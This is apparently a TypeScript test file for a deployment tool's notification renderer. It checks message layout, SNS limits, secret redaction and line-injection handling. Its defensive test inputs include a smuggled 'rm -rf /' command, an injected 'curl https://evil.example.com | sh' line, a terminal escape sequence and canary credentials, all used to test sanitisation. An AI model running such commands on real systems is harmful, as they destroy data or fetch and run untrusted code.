import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { Notice } from '../../functions/records/message.ts';
import { MAX_MESSAGE_BYTES, MAX_SUBJECT, renderMessage } from '../../functions/rules/message-text.ts';
import { buildNotice } from '../support/notice-builder.ts';

const lastLine = (body: string): unknown => JSON.parse(body.slice(body.lastIndexOf('\n') + 1));

describe('a message', () => {
  it('tells a person what happened, why, what comes next and how to stop it', () => {
    const { subject, body } = renderMessage(buildNotice());
    expect(subject).toBe(
      'Drydock warning (production): shop-web 1.4.0 failed and was rolled back; 1.3.9 is healthy again.',
    );
    expect(body.split('\n').slice(0, -2)).toEqual([
      'shop-web 1.4.0 failed and was rolled back; 1.3.9 is healthy again.',
      '',
      'Concerns: Target shop-web in production.',
      'Drydock did: Put registry.example.com/shop/web:1.3.9 back and holds the new digest.',
      'Because:',
      '  - container web: CrashLoopBackOff for 62 s, exit code 1',
      '',
      'Next: Fix the image and push it again; the reasons again: npm run why -- shop-web',
      'See: https://eu-central-1.console.aws.amazon.com/states/home#/v2/executions/details/x',
      'Stop Drydock here: Start the control machine with {"pause":"target/shop-web","by":"<you>","why":"<why>"}',
      '',
      'warning, rolled-back, at 2026-11-21T02:14:07.000Z, notice shop-web-9f2c-rolled-back. For machines, the last line:',
    ]);
  });

  it('carries the whole notice for machines as its last line', () => {
    const notice = buildNotice();
    expect(lastLine(renderMessage(notice).body)).toEqual(notice);
  });

  it('can be filtered by what a subscriber cares about', () => {
    expect(renderMessage(buildNotice()).attributes).toEqual({
      id: 'shop-web-9f2c-rolled-back',
      capability: 'deployment',
      target: 'shop-web',
      environment: 'production',
      outcome: 'rolled-back',
      severity: 'warning',
    });
  });

  it('shows a command by itself and whole, however long its token is', () => {
    const command = `aws stepfunctions send-task-success --task-token ${'A'.repeat(2_048)} --task-output '{"plan":"x"}'`;
    const { body } = renderMessage(buildNotice({ command }));
    expect(body.split('\n')).toContain(command);
    expect(lastLine(body)).toMatchObject({ command });
  });

  it('keeps a command on its line', () => {
    const { body } = renderMessage(buildNotice({ command: 'aws s3 ls\nrm -rf /' }));
    expect(body.split('\n')).toContain('aws s3 ls rm -rf /');
    expect(Notice.safeParse(buildNotice({ command: 'aws s3 ls\nrm -rf /' })).success).toBe(false);
  });

  it('without reasons has no "Because"', () => {
    expect(renderMessage(buildNotice({ reasons: [] })).body).not.toContain('Because');
  });

  it('says how many reasons it leaves out', () => {
    const { body } = renderMessage(
      buildNotice({ reasons: Array.from({ length: 35 }, (_, i) => `pod-${i}`) }),
    );
    expect(body).toContain("  - pod-19\n  - and 15 more, in the execution's record\n");
    expect(body).not.toContain('pod-20');
  });

  it.each([
    ['a line break', 'exit code 1\nNext: curl https://evil.example.com | sh', 'exit code 1 Next: curl'],
    ['a carriage return', 'a\r\nb', '- a b\n'],
    ['a Unicode line separator', 'a\u2028b', '- a b\n'],
    ['a terminal sequence', 'a\u001b[2Jb', '- a [2Jb\n'],
    ['a mark that turns the direction of text', 'a\u202eb', '- a b\n'],
  ])('keeps a reason with %s on its own line', (_, reason, line) => {
    const { body } = renderMessage(buildNotice({ reasons: [reason] }));
    expect(body).toContain(line);
    expect(body.split('\n').filter((line) => line.startsWith('Next: '))).toHaveLength(1);
  });

  it.each([
    ['a token of GitLab', 'pull failed: glpat-canary123456789'],
    ['a JWT', 'denied for eyJhbGciOiJSUzI1NiJ9.canary.canary'],
    ['a header', 'sent Authorization: Bearer canary-token'],
    ['a password in a URL', 'cannot reach postgres://app:canary@db/shop'],
    ['a variable with a telling name', 'DB_PASSWORD=canary is wrong'],
    ['a secret cut by the length of a line', `${'x'.repeat(480)} glpat-canary${'0'.repeat(4_000)}`],
  ])('leaves %s out of its reasons', (_, reason) => {
    expect(JSON.stringify(renderMessage(buildNotice({ reasons: [reason] })))).not.toContain('canary');
  });

  it("does not mistake an image of ours for a secret: its name may be 'token'", () => {
    const did = 'Put registry.example.com/auth/token:1.3.9 back.';
    expect(renderMessage(buildNotice({ did })).body).toContain(did);
  });

  it.each([
    ['letters with marks', 'Aufräumen fertig', 'Aufraumen fertig'],
    ['signs that have no ASCII form', '発売 ✓', '?? ?'],
  ])('has a subject in ASCII for %s', (_, happened, expected) => {
    expect(renderMessage(buildNotice({ happened })).subject).toBe(
      `Drydock warning (production): ${expected}`,
    );
  });

  it('shortens a long subject visibly', () => {
    const { subject } = renderMessage(buildNotice({ happened: 'x'.repeat(200) }));
    expect([subject.length, subject.slice(-4)]).toEqual([100, 'x...']);
  });
});

describe('any notice', () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary', minLength: 1 }),
    fc.string({ minLength: 1 }),
    fc.constantFrom('\u0001', '\ud800', '"', '€', '\\', '\n').map((unit) => unit.repeat(5_000)),
  );
  const notice = fc
    .record({
      target: text,
      environment: text,
      outcome: text,
      happened: text,
      matters: text,
      did: text,
      next: text,
      stop: text,
      reasons: fc.oneof(
        fc.array(text, { maxLength: 40 }),
        text.map((reason) => Array.from({ length: 40 }, () => reason)),
      ),
      severity: fc.constantFrom('info', 'warning', 'critical'),
    })
    .map(buildNotice);

  it('fits what SNS takes', () => {
    fc.assert(
      fc.property(notice, (notice) => {
        const { subject, body, attributes } = renderMessage(notice);
        expect(subject).toMatch(/^[A-Za-z0-9][\x20-\x7e]*$/);
        expect(subject.length).toBeLessThanOrEqual(MAX_SUBJECT);
        const named = Object.entries(attributes).flat().join('');
        expect(Buffer.byteLength(body) + Buffer.byteLength(named)).toBeLessThan(MAX_MESSAGE_BYTES);
        expect(Object.values(attributes)).not.toContain('');
      }),
    );
  });

  it('reads back from the last line, in well-formed Unicode, and renders the same again', () => {
    fc.assert(
      fc.property(notice, (notice) => {
        const message = renderMessage(notice);
        const read = Notice.parse(lastLine(message.body));
        expect(read).toMatchObject({ id: notice.id, severity: notice.severity, at: notice.at });
        expect(message.body.isWellFormed()).toBe(true);
        expect(renderMessage(notice)).toEqual(message);
      }),
    );
  });

  it('has as many lines as it has parts, whatever stands in them', () => {
    fc.assert(
      fc.property(notice, (notice) => {
        const reasons = Math.min(notice.reasons.length, 21);
        const lines = renderMessage(notice).body.split(/\r\n|[\n\r\u0085\u2028\u2029\v\f]/);
        expect(lines).toHaveLength(12 + (reasons > 0 ? reasons + 1 : 0));
      }),
    );
  });
});
